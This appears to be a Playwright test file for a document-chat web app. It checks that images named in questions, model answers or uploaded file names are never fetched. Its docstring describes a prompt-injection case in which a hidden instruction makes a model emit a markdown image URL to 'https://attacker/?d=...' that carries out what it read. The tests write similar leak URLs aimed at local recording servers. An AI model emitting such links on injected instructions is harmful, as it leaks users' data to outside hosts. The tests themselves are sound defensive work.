"""Rendering never makes the browser fetch a URL that model output, a question or
a document names: a hidden instruction in a document can make a model write
``![](https://attacker/?d=<what it read>)``, and an image is fetched as it renders;
a file's name is the uploader's to choose."""

import http.server
import socketserver
import threading
from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, expect
from shared import PDFS, send, wait_for_answer


@pytest.fixture
def attacker() -> Iterator[tuple[str, list[str]]]:
    """A web server on 127.0.0.1 that records every path asked of it."""
    asked: list[str] = []

    class Recorder(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", asked
    server.shutdown()


def test_an_image_in_a_question_or_an_answer_is_a_link_never_fetched(
    page: Page, attacker: tuple[str, list[str]]
) -> None:
    """The scripted model quotes the question, so the answer holds the image too,
    streamed word by word and then drawn whole."""
    url, asked = attacker
    send(page, f"Read this ![pixel]({url}/leak?d=secret) and [the ref][r]\n\n[r]: {url}/ref.png")
    wait_for_answer(page, 1)
    page.reload()  # drawn again from the store
    wait_for_answer(page, 1)
    assert asked == []
    expect(page.locator(f'a[href="{url}/leak?d=secret"]').first).to_be_visible()
    assert page.locator("img[src^='http://127.0.0.1']").count() == 0


@pytest.fixture
def listener() -> Iterator[tuple[int, list[str]]]:
    """A port on 127.0.0.1 that records every connection made to it, whatever the
    protocol: an https image URL makes Chromium connect before any HTTP is spoken."""
    connected: list[str] = []

    class Recorder(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            connected.append(self.client_address[0])

    server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1], connected
    server.shutdown()
    server.server_close()


def test_an_image_in_a_file_name_is_never_fetched(page: Page, listener: tuple[int, list[str]]) -> None:
    """The name as the review wrote it (a file name holds no slash): the PDF page, then
    the chat that asks the document, its caption, an answer's sources and a reload."""
    port, connected = listener
    name = f"report![x](https:127.0.0.1:{port}?who=alice).pdf"
    data = (PDFS / "minimal-document.pdf").read_bytes()
    pdf = {"name": name, "mimeType": "application/pdf", "buffer": data}
    page.get_by_test_id("stSidebarNav").get_by_text("Summarize a PDF").click()
    page.locator("input[type=file]").set_input_files(pdf)
    expect(page.get_by_text("1 page ·")).to_be_visible()
    page.get_by_role("button", name="Ask this document").click()
    caption = page.get_by_role("main").get_by_test_id("stCaptionContainer").first
    expect(caption).to_contain_text("report", timeout=120_000)  # once indexed (the embedding model starts)
    send(page, "What does Lorem ipsum dolor sit amet say?")
    wait_for_answer(page, 1)
    page.get_by_text("Sources (").click()
    expect(page.get_by_text("p. 1]").first).to_be_visible()
    page.reload()
    wait_for_answer(page, 1)
    assert page.locator("img[src*='127.0.0.1']").count() == 0
    assert connected == []
